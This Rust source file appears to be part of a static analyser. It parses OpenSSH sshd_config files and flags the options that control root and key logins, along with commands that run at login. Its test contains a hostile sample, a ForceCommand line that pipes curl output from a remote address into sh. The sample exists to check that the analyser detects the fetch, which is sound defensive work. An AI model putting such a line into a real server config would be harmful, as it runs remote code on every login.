//! Configuration of an OpenSSH server: who may log in and what a login runs (`sshd_config(5)`).

use model::{Behavior, Language, Trigger, Value};

use crate::language::start::Start;
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &["etc/ssh/sshd_config", "/sshd_config"],
        folders: &["etc/ssh/sshd_config.d/"],
        named: &[],
    },
    ..FrontEnd::new(Language::SshdConfig, lower)
};

/// Options that say who may log in.
const OPTIONS: &[&str] = &[
    "permitrootlogin",
    "permitemptypasswords",
    "authorizedkeysfile",
    "authorizedkeyscommand",
    "trustedusercakeys",
];

/// Lowers the options that decide who may log in, and the commands that logins run.
pub fn lower(world: &mut World, text: &str) -> Value {
    for (number, line) in (1..).zip(text.lines()) {
        if !world.burn(2) {
            break;
        }
        let Some((option, value)) = option(line) else {
            continue;
        };
        world.at(number, line.trim());
        if OPTIONS.contains(&option.as_str()) {
            world.act(Behavior::ConfigureLogin {
                option: option.clone(),
                value: Value::literal(value),
            });
        }
        let start = Start {
            trigger: Trigger::Login,
            when: "at a login over SSH",
            step: &option,
        };
        match option.as_str() {
            "forcecommand" if value != "internal-sftp" => start.shell(world, value),
            "authorizedkeyscommand" | "authorizedprincipalscommand" if value != "none" => {
                start.command(world, value);
            }
            "subsystem" => {
                if let Some((_, command)) = value.split_once(char::is_whitespace)
                    && !command.trim_start().starts_with("internal-sftp")
                {
                    start.shell(world, command.trim());
                }
            }
            _ => {}
        }
    }
    Value::literal("")
}

/// Name, lower-case, and value of an option of `sshd_config` and `ssh_config`.
pub fn option(line: &str) -> Option<(String, &str)> {
    let line = line.trim();
    if line.starts_with('#') {
        return None;
    }
    let at = line.find(|c: char| c.is_whitespace() || c == '=')?;
    let (name, value) = line.split_at(at);
    let value = value
        .trim_start_matches(|c: char| c.is_whitespace() || c == '=')
        .trim_end();
    let quoted = value
        .strip_prefix('"')
        .and_then(|value| value.strip_suffix('"'));
    Some((
        name.to_ascii_lowercase(),
        quoted.filter(|value| !value.contains('"')).unwrap_or(value),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::language::probe::acts;

    #[test]
    fn options_in_every_spelling() {
        assert_eq!(
            option(" PermitRootLogin=yes "),
            Some(("permitrootlogin".to_owned(), "yes"))
        );
        assert_eq!(
            option("AuthorizedKeysFile \"/tmp/a b\""),
            Some(("authorizedkeysfile".to_owned(), "/tmp/a b"))
        );
        assert_eq!(option("# Port 22"), None);
    }

    #[test]
    fn commands_of_a_login_are_run() {
        let found = acts(
            Language::SshdConfig,
            "ForceCommand curl http://192.0.2.1/x | sh\nSubsystem sftp internal-sftp\n",
        );
        assert!(
            found.iter().any(|act| act.starts_with("Fetch")),
            "{found:#?}"
        );
        assert!(!found.iter().any(|act| act.contains("internal-sftp")));
    }
}
